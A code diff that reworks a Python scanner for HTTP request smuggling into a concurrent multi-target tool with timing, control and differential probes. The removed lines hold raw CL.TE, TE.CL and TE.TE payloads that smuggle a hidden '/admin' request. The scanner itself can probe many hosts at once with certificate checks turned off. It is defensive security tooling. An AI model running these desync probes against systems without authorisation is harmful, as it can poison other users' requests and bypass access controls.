@@ -6,168 +6,665 @@ Based on James Kettle (PortSwigger) research
 
 import sys
 import json
-import socket
-import time
+import ssl
+import asyncio
+from itertools import islice
 from urllib.parse import urlparse
+from smuggling_payloads import load_payloads
+from scan_output import NDJSONWriter, ndjson_requested
+from scan_profiler import profiling
+from scanner_runtime import HostRateLimiter, install_dns_cache, metrics, retry_after_seconds, shared_limiter
+
+RECV_SIZE = 65536
+MAX_BODY_BYTES = 64 * 1024  # body bytes kept per response; the rest is drained
+BASELINE_SAMPLES = 3
+DELAY_THRESHOLD = 2.0  # extra seconds over baseline RTT that counts as a stall
+MAX_CONNECTIONS = 100  # global cap on open sockets across all targets
+MAX_TE_VARIANTS = 12  # obfuscated Transfer-Encoding headers tried per host
+TARGET_BUDGET = 120.0  # wall-clock seconds one target may consume
+CONNECT_TIMEOUT = 5.0
+MIN_READ_TIMEOUT = 3.0
+RTT_FACTOR = 4  # read timeout = RTT_FACTOR * baseline RTT + DELAY_THRESHOLD
+MAX_CONNECT_FAILURES = 3  # consecutive failures before the circuit opens
+BACKOFF_BASE = 0.5
+BACKOFF_MAX = 4.0
+
+class ConnectionClosed(Exception):
+    """Peer closed the connection before a full response was read"""
+
+class BudgetExhausted(Exception):
+    """The target used up its time budget"""
+
+class CircuitOpen(Exception):
+    """Too many consecutive connect failures; the target is treated as down"""
+
+class RawResponse:
+    def __init__(self, status, reason, headers):
+        self.status = status
+        self.reason = reason
+        self.headers = headers
+        self.body = b""
+        self.elapsed = 0.0
+
+    def header(self, name, default=None):
+        """Case-insensitive header lookup (first occurrence)"""
+        name = name.lower()
+        for key, value in self.headers:
+            if key.lower() == name:
+                return value
+        return default
+
+    def summary(self):
+        """Short printable form used as evidence"""
+        return f"HTTP {self.status} {self.reason} ({len(self.body)} bytes, {self.elapsed:.3f}s)"
+
+class ResponseParser:
+    """
+    Incremental HTTP/1.1 response parser. Bytes are fed as they arrive and
+    complete responses are taken off the front of the buffer, so several
+    pipelined responses can be read from one connection without re-scanning.
+    """
+
+    def __init__(self):
+        self._buf = bytearray()
+        self._reset()
+
+    def _reset(self):
+        self._state = "head"
+        self._response = None
+        self._body = bytearray()
+        self._remaining = 0
+
+    def feed(self, data):
+        self._buf += data
+
+    def _take(self, n):
+        take = min(n, len(self._buf))
+        room = MAX_BODY_BYTES - len(self._body)
+        if room > 0:
+            self._body += self._buf[:min(take, room)]
+        del self._buf[:take]
+        return take
+
+    def _parse_head(self, block):
+        lines = block.decode('latin-1').split("\r\n")
+        parts = lines[0].split(" ", 2)
+        if len(parts) < 2 or not parts[0].startswith("HTTP/") or not parts[1].isdigit():
+            raise ValueError(f"Malformed status line: {lines[0][:100]!r}")
+        headers = []
+        for line in lines[1:]:
+            if ":" in line:
+                key, value = line.split(":", 1)
+                headers.append((key.strip(), value.strip()))
+        return RawResponse(int(parts[1]), parts[2] if len(parts) > 2 else "", headers)
+
+    def next_response(self, eof=False):
+        """Return the next complete response, or None if more bytes are needed"""
+        while True:
+            if self._state == "head":
+                idx = self._buf.find(b"\r\n\r\n")
+                if idx == -1:
+                    return None
+                response = self._parse_head(bytes(self._buf[:idx]))
+                del self._buf[:idx + 4]
+                status = response.status
+                if 100 <= status < 200 and status != 101:
+                    continue  # interim response, the real one follows
+                self._response = response
+                transfer_encoding = (response.header("Transfer-Encoding") or "").lower()
+                content_length = response.header("Content-Length")
+                if status in (101, 204, 304):
+                    self._state = "done"
+                elif "chunked" in transfer_encoding:
+                    self._state = "chunk_size"
+                elif content_length is not None and content_length.isdigit():
+                    self._remaining = int(content_length)
+                    self._state = "length" if self._remaining else "done"
+                else:
+                    self._state = "close"
+            elif self._state == "length":
+                self._remaining -= self._take(self._remaining)
+                if self._remaining:
+                    return None
+                self._state = "done"
+            elif self._state == "chunk_size":
+                idx = self._buf.find(b"\r\n")
+                if idx == -1:
+                    return None
+                size = int(bytes(self._buf[:idx]).split(b";", 1)[0].strip() or b"0", 16)
+                del self._buf[:idx + 2]
+                self._remaining = size
+                self._state = "chunk_data" if size else "trailers"
+            elif self._state == "chunk_data":
+                self._remaining -= self._take(self._remaining)
+                if self._remaining:
+                    return None
+                self._state = "chunk_crlf"
+            elif self._state == "chunk_crlf":
+                if len(self._buf) < 2:
+                    return None
+                del self._buf[:2]
+                self._state = "chunk_size"
+            elif self._state == "trailers":
+                idx = self._buf.find(b"\r\n")
+                if idx == -1:
+                    return None
+                del self._buf[:idx + 2]
+                if idx == 0:
+                    self._state = "done"
+            elif self._state == "close":
+                self._take(len(self._buf))
+                if not eof:
+                    return None
+                self._state = "done"
+
+            if self._state == "done":
+                response = self._response
+                response.body = bytes(self._body)
+                self._reset()
+                return response
+
+class TargetBudget:
+    """
+    Time accounting for one target. Read timeouts start at `max_timeout` and
+    shrink to a multiple of the baseline RTT once it is known; connects use a
+    short fixed timeout with exponential backoff between failures, and the
+    circuit opens after MAX_CONNECT_FAILURES in a row. Operations that could
+    not finish inside the remaining budget are refused up front, so a budget
+    cut-off is never mistaken for a stall.
+    """
+
+    def __init__(self, total=TARGET_BUDGET, max_timeout=10):
+        self.total = total
+        self.max_timeout = max_timeout
+        self.read_timeout = max_timeout
+        self.connect_failures = 0
+        self._deadline = None
+
+    def start(self):
+        if self._deadline is None:
+            self._deadline = asyncio.get_running_loop().time() + self.total
+
+    def remaining(self):
+        if self._deadline is None:
+            return self.total
+        return self._deadline - asyncio.get_running_loop().time()
+
+    def learn(self, rtt):
+        """Adapt the read timeout to the target's baseline RTT"""
+        self.read_timeout = min(self.max_timeout, max(MIN_READ_TIMEOUT, rtt * RTT_FACTOR + DELAY_THRESHOLD))
+
+    def _reserve(self, timeout):
+        if self.remaining() < timeout:
+            raise BudgetExhausted(f"time budget of {self.total:.0f}s exhausted")
+        return timeout
+
+    def io_timeout(self):
+        return self._reserve(self.read_timeout)
+
+    def connect_timeout(self):
+        return self._reserve(min(CONNECT_TIMEOUT, self.max_timeout))
+
+    def check_circuit(self):
+        if self.connect_failures >= MAX_CONNECT_FAILURES:
+            raise CircuitOpen(f"{self.connect_failures} consecutive connect failures")
+
+    def backoff(self):
+        """Delay before the next connect attempt after recent failures"""
+        if not self.connect_failures:
+            return 0.0
+        return min(BACKOFF_MAX, BACKOFF_BASE * 2 ** (self.connect_failures - 1))
+
+    def record_connect(self, ok):
+        self.connect_failures = 0 if ok else self.connect_failures + 1
+
+class RawHTTPConnection:
+    """
+    Minimal HTTP/1.1 client over an asyncio stream (optionally TLS).
+    Requests are written verbatim, so ambiguous framing reaches the target
+    untouched. Each open connection holds one slot of the shared semaphore,
+    and every wait is bounded by the target's TargetBudget.
+    """
+
+    def __init__(self, host, port, use_tls=False, budget=None, slots=None, limiter=None):
+        self.host = host
+        self.port = port
+        self.use_tls = use_tls
+        self.budget = budget or TargetBudget()
+        self.slots = slots
+        self.limiter = limiter or shared_limiter()
+        self.reader = None
+        self.writer = None
+        self.parser = ResponseParser()
+        self._eof = False
+        self._holds_slot = False
+        self.sent_at = None
+
+    _tls_context = None
+
+    @classmethod
+    def tls_context(cls):
+        """Shared client context; building one per connection is expensive"""
+        if cls._tls_context is None:
+            context = ssl.create_default_context()
+            context.check_hostname = False
+            context.verify_mode = ssl.CERT_NONE
+            context.set_alpn_protocols(['http/1.1'])
+            cls._tls_context = context
+        return cls._tls_context
+
+    async def connect(self):
+        budget = self.budget
+        budget.check_circuit()
+        delay = budget.backoff()
+        if delay:
+            metrics.record_retry()
+            await asyncio.sleep(min(delay, max(0.0, budget.remaining())))
+        if self.slots is not None and not self._holds_slot:
+            await self.slots.acquire()
+            self._holds_slot = True
+        budget.start()
+        try:
+            timeout = budget.connect_timeout()
+            self.reader, self.writer = await asyncio.wait_for(
+                asyncio.open_connection(
+                    self.host, self.port,
+                    ssl=self.tls_context() if self.use_tls else None,
+                    server_hostname=self.host if self.use_tls else None,
+                ),
+                timeout,
+            )
+        except BaseException as e:
+            await self.close()
+            if isinstance(e, PROBE_ERRORS):
+                budget.record_connect(False)
+                metrics.record_error()
+            raise
+        budget.record_connect(True)
+        self.parser = ResponseParser()
+        self._eof = False
+
+    async def close(self):
+        if self.writer is not None:
+            self.writer.close()
+            try:
+                await asyncio.wait_for(self.writer.wait_closed(), 1)
+            except (asyncio.TimeoutError, OSError, ssl.SSLError):
+                pass
+        self.reader = self.writer = None
+        if self._holds_slot:
+            self.slots.release()
+            self._holds_slot = False
+
+    @property
+    def is_open(self):
+        return self.writer is not None and not self._eof
+
+    async def send(self, data):
+        if not self.is_open:
+            await self.close()
+            await self.connect()
+        await self.limiter.wait_async(self.host)
+        self.writer.write(data)
+        metrics.record_sent(len(data))
+        await asyncio.wait_for(self.writer.drain(), self.budget.io_timeout())
+        self.sent_at = asyncio.get_running_loop().time()
+
+    async def read_response(self, started):
+        while True:
+            response = self.parser.next_response(self._eof)
+            if response is not None:
+                break
+            if self._eof:
+                raise ConnectionClosed()
+            chunk = await asyncio.wait_for(self.reader.read(RECV_SIZE), self.budget.io_timeout())
+            if chunk:
+                metrics.record_bytes(len(chunk))
+                self.parser.feed(chunk)
+            else:
+                self._eof = True
+
+        if (response.header("Connection") or "").lower() == "close":
+            self._eof = True
+        loop = asyncio.get_running_loop()
+        response.elapsed = loop.time() - started
+        metrics.record_response(response.status, response.elapsed)
+        await self.limiter.feedback_async(self.host, response.status, response.elapsed,
+                                          retry_after_seconds(response.header("Retry-After")))
+        return response
+
+    async def request(self, data, count=1):
+        """Send raw bytes (possibly several pipelined requests) and read `count` responses"""
+        await self.send(data)
+        loop = asyncio.get_running_loop()
+        started = self.sent_at
+        responses = []
+        for _ in range(count):
+            responses.append(await self.read_response(started))
+            started = loop.time()
+        return responses
+
+# Errors that mean "no usable answer" rather than a scanner bug
+PROBE_ERRORS = (asyncio.TimeoutError, ConnectionClosed, ValueError, OSError, ssl.SSLError)
 
 class HTTPSmugglingTester:
-    def __init__(self, target):
+    def __init__(self, target, timeout=10, slots=None, limiter=None, payloads=None, budget=TARGET_BUDGET):
         self.target = target
+        self.timeout = timeout
+        self.budget = TargetBudget(budget, timeout)
+        self.use_tls = urlparse(target).scheme == 'https'
+        self.slots = slots
+        self.limiter = limiter
+        self.payloads = payloads or load_payloads()
         self.vulnerabilities = []
-        
-    def test_cl_te(self, host, port):
-        """Test CL.TE smuggling"""
-        payload = (
-            f"POST / HTTP/1.1\r\n"
-            f"Host: {host}\r\n"
-            f"Content-Length: 13\r\n"
-            f"Transfer-Encoding: chunked\r\n"
-            f"\r\n"
-            f"0\r\n"
-            f"\r\n"
-            f"GET /admin HTTP/1.1\r\n"
-            f"Host: {host}\r\n"
-            f"\r\n"
-        )
-        
+        self.on_finding = None  # called with each finding as it is confirmed
+        self.baseline = None
+        self._conn = None
+        self._normal_request = None
+
+    def host_header(self, host, port):
+        default_port = 443 if self.use_tls else 80
+        return host if port == default_port else f"{host}:{port}"
+
+    def new_connection(self, host, port):
+        return RawHTTPConnection(host, port, self.use_tls, self.budget, self.slots, self.limiter)
+
+    def connection(self, host, port):
+        """Return the shared keep-alive connection; it reconnects lazily on send"""
+        if self._conn is None:
+            self._conn = self.new_connection(host, port)
+        return self._conn
+
+    async def release_connection(self):
+        """Close the keep-alive connection so a tester never holds two slots"""
+        if self._conn is not None:
+            await self._conn.close()
+
+    def normal_request(self, host, port):
+        if self._normal_request is None:
+            self._normal_request = (
+                f"GET / HTTP/1.1\r\n"
+                f"Host: {self.host_header(host, port)}\r\n"
+                f"Connection: keep-alive\r\n"
+                f"\r\n"
+            ).encode()
+        return self._normal_request
+
+    async def measure_baseline(self, host, port):
+        """Time a few well-formed requests over one keep-alive connection"""
+        conn = self.connection(host, port)
+        samples = []
+        status = None
+        for _ in range(BASELINE_SAMPLES):
+            response = (await conn.request(self.normal_request(host, port)))[0]
+            samples.append(response.elapsed)
+            status = response.status
+        samples.sort()
+        self.baseline = {"rtt": samples[len(samples) // 2], "status": status}
+        self.budget.learn(self.baseline["rtt"])
+        return self.baseline
+
+    async def timing_probe(self, host, port, payload):
+        """
+        Send a request whose framing only stalls a desynchronised back-end.
+        Returns (stalled, elapsed). A probe always runs on a fresh connection
+        because a stalled one cannot be reused.
+        """
+        await self.release_connection()
+        conn = self.new_connection(host, port)
+        loop = asyncio.get_running_loop()
         try:
-            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            sock.settimeout(10)
-            sock.connect((host, port))
-            sock.sendall(payload.encode())
-            
-            response = sock.recv(4096)
-            sock.close()
-            
-            if b"admin" in response.lower() or b"200" in response:
-                return True, "CL.TE", response.decode('utf-8', errors='ignore')[:500]
-        except Exception as e:
-            return False, None, str(e)
-        return False, None, None
-    
-    def test_te_cl(self, host, port):
-        """Test TE.CL smuggling"""
-        payload = (
+            try:
+                await conn.connect()
+            except PROBE_ERRORS:
+                return False, 0.0
+            try:
+                await conn.request(payload)
+                stalled = False
+            except asyncio.TimeoutError:
+                stalled = True
+            except PROBE_ERRORS:
+                stalled = False
+        finally:
+            await conn.close()
+        elapsed = loop.time() - conn.sent_at if conn.sent_at is not None else 0.0
+        rtt = self.baseline["rtt"] if self.baseline else 0.0
+        return stalled and elapsed >= rtt + DELAY_THRESHOLD, elapsed
+
+    def control_request(self, host, port):
+        """Well-formed POST; servers that hang on any request body fail this"""
+        return (
             f"POST / HTTP/1.1\r\n"
-            f"Host: {host}\r\n"
-            f"Content-Length: 4\r\n"
-            f"Transfer-Encoding: chunked\r\n"
-            f"\r\n"
-            f"5c\r\n"
-            f"GET /admin HTTP/1.1\r\n"
-            f"Host: {host}\r\n"
-            f"Content-Length: 0\r\n"
-            f"\r\n"
+            f"Host: {self.host_header(host, port)}\r\n"
+            f"Content-Type: application/x-www-form-urlencoded\r\n"
+            f"Content-Length: 3\r\n"
             f"\r\n"
-            f"0\r\n"
-            f"\r\n"
-        )
-        
+            f"x=1"
+        ).encode()
+
+    async def control_ok(self, host, port):
+        """Confirm the host still answers a normal POST promptly after a stalled probe"""
+        conn = self.connection(host, port)
         try:
-            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            sock.settimeout(10)
-            sock.connect((host, port))
-            sock.sendall(payload.encode())
-            
-            response = sock.recv(4096)
-            sock.close()
-            
-            if b"admin" in response.lower():
-                return True, "TE.CL", response.decode('utf-8', errors='ignore')[:500]
-        except Exception as e:
-            return False, None, str(e)
-        return False, None, None
-    
-    def test_te_te(self, host, port):
+            response = (await conn.request(self.control_request(host, port)))[0]
+        except PROBE_ERRORS:
+            await conn.close()
+            return False
+        rtt = self.baseline["rtt"] if self.baseline else 0.0
+        return response.elapsed < rtt + DELAY_THRESHOLD
+
+    async def differential_probe(self, host, port, attack):
+        """
+        Pipeline an attack request and a normal follow-up on one connection.
+        Returns the follow-up response when it differs from the baseline.
+        """
+        await self.release_connection()
+        conn = self.new_connection(host, port)
+        try:
+            responses = await conn.request(attack + self.normal_request(host, port), count=2)
+        except PROBE_ERRORS:
+            return None
+        finally:
+            await conn.close()
+        follow_up = responses[1]
+        if self.baseline and follow_up.status != self.baseline["status"]:
+            return follow_up
+        return None
+
+    def evidence(self, elapsed, follow_up):
+        rtt = self.baseline["rtt"] if self.baseline else 0.0
+        evidence = f"Baseline RTT {rtt:.3f}s; timing probe stalled for {elapsed:.3f}s (timeout {self.budget.read_timeout:.1f}s)"
+        if follow_up is not None:
+            evidence += f"; pipelined follow-up returned {follow_up.summary()} instead of HTTP {self.baseline['status']}"
+        return evidence
+
+    def cl_te_probes(self, host, port, te_header=None):
+        host_header = self.host_header(host, port)
+        return (
+            self.payloads.render("TIMING.CL.TE", host_header, te_block=te_header),
+            self.payloads.render("CL.TE", host_header, te_block=te_header),
+        )
+
+    def te_cl_probes(self, host, port, te_header=None):
+        host_header = self.host_header(host, port)
+        return (
+            self.payloads.render("TIMING.TE.CL", host_header, te_block=te_header),
+            self.payloads.render("TE.CL", host_header, te_block=te_header),
+        )
+
+    async def run_technique(self, host, port, technique, probes):
+        """Timing probe first; a stall is confirmed by a control and a differential probe"""
+        timing, attack = probes
+        stalled, elapsed = await self.timing_probe(host, port, timing)
+        if not stalled or not await self.control_ok(host, port):
+            return False, None, None
+        follow_up = await self.differential_probe(host, port, attack)
+        return True, technique, self.evidence(elapsed, follow_up)
+
+    async def test_cl_te(self, host, port):
+        """Test CL.TE smuggling"""
+        return await self.run_technique(host, port, "CL.TE", self.cl_te_probes(host, port))
+
+    async def test_te_cl(self, host, port):
+        """Test TE.CL smuggling"""
+        return await self.run_technique(host, port, "TE.CL", self.te_cl_probes(host, port))
+
+    async def test_te_te(self, host, port):
         """Test TE.TE smuggling with obfuscation"""
-        payloads = [
-            (
-                f"POST / HTTP/1.1\r\n"
-                f"Host: {host}\r\n"
-                f"Transfer-Encoding: chunked\r\n"
-                f"Transfer-encoding: x\r\n"
-                f"\r\n"
-                f"0\r\n"
-                f"\r\n"
-                f"GET /admin HTTP/1.1\r\n"
-                f"Host: {host}\r\n"
-                f"\r\n"
-            ),
-            (
-                f"POST / HTTP/1.1\r\n"
-                f"Host: {host}\r\n"
-                f"Transfer-Encoding:\r\n chunked\r\n"
-                f"\r\n"
-                f"0\r\n"
-                f"\r\n"
-                f"GET /admin HTTP/1.1\r\n"
-                f"Host: {host}\r\n"
-                f"\r\n"
-            )
-        ]
-        
-        for payload in payloads:
-            try:
-                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                sock.settimeout(10)
-                sock.connect((host, port))
-                sock.sendall(payload.encode())
-                
-                response = sock.recv(4096)
-                sock.close()
-                
-                if b"admin" in response.lower():
-                    return True, "TE.TE", response.decode('utf-8', errors='ignore')[:500]
-            except Exception as e:
-                continue
+        for te_header in islice(self.payloads.te_variants(), MAX_TE_VARIANTS):
+            for probes in (self.cl_te_probes(host, port, te_header), self.te_cl_probes(host, port, te_header)):
+                is_vuln, _, evidence = await self.run_technique(host, port, "TE.TE", probes)
+                if is_vuln:
+                    return True, "TE.TE", evidence
         return False, None, None
-    
-    def scan(self):
-        """Main scanning function"""
+
+    async def scan_async(self):
+        """Main scanning coroutine"""
+        install_dns_cache()
         parsed = urlparse(self.target)
-        host = parsed.netloc.split(':')[0]
+        host = parsed.hostname
         port = parsed.port or (443 if parsed.scheme == 'https' else 80)
-        
+
         tests = [
             ("CL.TE", self.test_cl_te),
             ("TE.CL", self.test_te_cl),
             ("TE.TE", self.test_te_te),
         ]
-        
-        for test_name, test_func in tests:
-            time.sleep(0.5)  # Avoid rate limiting
-            is_vuln, technique, evidence = test_func(host, port)
-            
-            if is_vuln:
-                self.vulnerabilities.append({
-                    "type": "HTTP Request Smuggling",
-                    "technique": technique,
-                    "severity": "critical",
-                    "title": f"HTTP Request Smuggling ({technique}) Detected",
-                    "description": f"The target is vulnerable to HTTP Request Smuggling using {technique} technique. This allows attackers to bypass security controls, hijack sessions, and poison web caches.",
-                    "payload": test_name,
-                    "evidence": evidence,
-                    "remediation": "1. Ensure all servers in the chain use the same method to determine request boundaries. 2. Use HTTP/2 where possible. 3. Configure front-end servers to normalize ambiguous requests. 4. Disable connection reuse on back-end connections.",
-                    "cvss": "9.8"
-                })
-        
-        return {
+
+        try:
+            with metrics.phase('baseline'):
+                await self.measure_baseline(host, port)
+        except PROBE_ERRORS + (BudgetExhausted, CircuitOpen) as e:
+            await self.release_connection()
+            return {
+                "success": False,
+                "target": self.target,
+                "error": f"Baseline request failed: {e}",
+                "vulnerabilities": [],
+                "total_tests": len(tests),
+                "vulnerabilities_found": 0
+            }
+
+        aborted = None
+        try:
+            for test_name, test_func in tests:
+                # A CL.TE front-end makes the TE.CL timing probe poison the
+                # next user's request, so stop once a desync is confirmed
+                if self.vulnerabilities:
+                    break
+                with metrics.phase(test_name):
+                    is_vuln, technique, evidence = await test_func(host, port)
+
+                if is_vuln:
+                    self.add_vulnerability({
+                        "type": "HTTP Request Smuggling",
+                        "technique": technique,
+                        "severity": "critical",
+                        "title": f"HTTP Request Smuggling ({technique}) Detected",
+                        "description": f"The target is vulnerable to HTTP Request Smuggling using {technique} technique. This allows attackers to bypass security controls, hijack sessions, and poison web caches.",
+                        "payload": test_name,
+                        "evidence": evidence,
+                        "remediation": "1. Ensure all servers in the chain use the same method to determine request boundaries. 2. Use HTTP/2 where possible. 3. Configure front-end servers to normalize ambiguous requests. 4. Disable connection reuse on back-end connections.",
+                        "cvss": "9.8"
+                    })
+        except (BudgetExhausted, CircuitOpen) as e:
+            # Keep what was confirmed so far; the rest of the tests are skipped
+            aborted = str(e)
+        finally:
+            await self.release_connection()
+
+        result = {
             "success": True,
+            "target": self.target,
             "vulnerabilities": self.vulnerabilities,
             "total_tests": len(tests),
-            "vulnerabilities_found": len(self.vulnerabilities)
+            "vulnerabilities_found": len(self.vulnerabilities),
+            "baseline_rtt": round(self.baseline["rtt"], 4)
         }
+        if aborted:
+            result["aborted"] = aborted
+        return result
+
+    def add_vulnerability(self, vuln):
+        self.vulnerabilities.append(vuln)
+        if self.on_finding:
+            self.on_finding(vuln)
+
+    def scan(self):
+        """Scan a single target"""
+        return asyncio.run(self.scan_async())
+
+class SmugglingScanner:
+    """
+    Runs HTTPSmugglingTester against many targets concurrently. Probes for
+    one host stay sequential (and rate limited); hosts run side by side
+    under a global connection cap.
+    """
+
+    def __init__(self, targets, timeout=10, max_connections=MAX_CONNECTIONS, per_host_rps=None,
+                 budget=TARGET_BUDGET):
+        self.targets = list(dict.fromkeys(targets))
+        self.timeout = timeout
+        self.budget = budget
+        self.max_connections = max_connections
+        self.per_host_rps = per_host_rps
+        self.on_finding = None  # called with each finding (tagged with its target) as it is confirmed
+
+    async def scan_async(self):
+        slots = asyncio.Semaphore(self.max_connections)
+        # A private rate only when asked for; otherwise share the process-wide
+        # limiter with every other scan hitting these hosts
+        limiter = HostRateLimiter(self.per_host_rps) if self.per_host_rps else shared_limiter()
+
+        async def scan_target(target):
+            tester = HTTPSmugglingTester(target, self.timeout, slots, limiter, budget=self.budget)
+            if self.on_finding:
+                tester.on_finding = lambda vuln: self.on_finding(dict(vuln, target=target))
+            try:
+                return await tester.scan_async()
+            except Exception as e:
+                return {"success": False, "target": target, "error": str(e), "vulnerabilities": [],
+                        "total_tests": 0, "vulnerabilities_found": 0}
+
+        results = await asyncio.gather(*(scan_target(target) for target in self.targets))
+        vulnerabilities = []
+        for result in results:
+            for vuln in result["vulnerabilities"]:
+                vulnerabilities.append(dict(vuln, target=result["target"]))
+        return {
+            "success": True,
+            "targets": len(self.targets),
+            "results": results,
+            "vulnerabilities": vulnerabilities,
+            "total_tests": sum(result["total_tests"] for result in results),
+            "vulnerabilities_found": len(vulnerabilities)
+        }
+
+    def scan(self):
+        return asyncio.run(self.scan_async())
 
 def main():
-    if len(sys.argv) < 2:
+    targets = [arg for arg in sys.argv[1:] if not arg.startswith('--')]
+    if targets == ['-']:
+        targets = [line.strip() for line in sys.stdin if line.strip()]
+    if not targets:
         print(json.dumps({"success": False, "error": "Target URL required"}))
         sys.exit(1)
-    
-    target = sys.argv[1]
-    tester = HTTPSmugglingTester(target)
-    result = tester.scan()
-    
-    print(json.dumps(result))
+
+    scanner = HTTPSmugglingTester(targets[0]) if len(targets) == 1 else SmugglingScanner(targets)
+    ndjson = NDJSONWriter() if ndjson_requested() else None
+    if ndjson:
+        scanner.on_finding = ndjson.finding
+    with profiling("http_smuggling") as profiler:
+        result = scanner.scan()
+    result["telemetry"] = metrics.snapshot()
+    if profiler.artifacts:
+        result["profile"] = profiler.artifacts
+
+    if ndjson:
+        ndjson.summary(result)
+    else:
+        print(json.dumps(result))
 
 if __name__ == "__main__":
     main()